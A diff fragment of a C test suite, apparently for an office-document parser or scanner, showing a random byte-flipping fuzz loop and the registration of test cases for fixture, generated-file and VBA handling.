+	for (int round = 0; round < 3000; round++) {
+		g_autofree char *what = g_strdup_printf("flips, round %d", round);
+
+		MUTANT(what, for (int k = g_rand_int_range(rnd, 1, 9); k > 0; k--)
+		    d->data[g_rand_int_range(rnd, 0, (gint32)d->len)] ^= (guint8)g_rand_int_range(rnd, 1, 256));
+	}
+#undef MUTANT
+	g_rand_free(rnd);
+	g_byte_array_unref(d);
+	g_byte_array_unref(doc);
+}
+END_TEST
 
 Suite *
 office_suite(void)
 {
 	Suite *s = suite_create("office");
-	TCase *tc = tcase_create("office");
+	TCase *built = tcase_create("fixtures");
+	TCase *made = tcase_create("made");
+	TCase *vba = tcase_create("vba");
 
-	suite_add_tcase(s, tc);
+	tcase_add_unchecked_fixture(built, office_setup, office_teardown);
+	tcase_set_timeout(built, 60);
+	tcase_add_loop_test(built, test_office_evidence, 0, G_N_ELEMENTS(office_evidence));
+	tcase_add_loop_test(built, test_office_tagged, 0, G_N_ELEMENTS(office_tagged));
+	tcase_add_loop_test(built, test_office_benign, 0, G_N_ELEMENTS(office_benign));
+	tcase_add_test(built, test_office_unkept);
+	suite_add_tcase(s, built);
+	tcase_set_timeout(made, 60);	/* the XML floods under a sanitizer */
+	tcase_add_loop_test(made, test_office_targets, 0, G_N_ELEMENTS(office_targets));
+	tcase_add_loop_test(made, test_office_rtf, 0, G_N_ELEMENTS(office_rtfs));
+	tcase_add_test(made, test_office_xml_hostile);
+	suite_add_tcase(s, made);
+	tcase_set_timeout(vba, 60);
+	tcase_add_test(vba, test_vba_decompress);
+	tcase_add_test(vba, test_vba_read);
+	tcase_add_test(vba, test_vba_hostile);
+	suite_add_tcase(s, vba);
 	return s;
 }
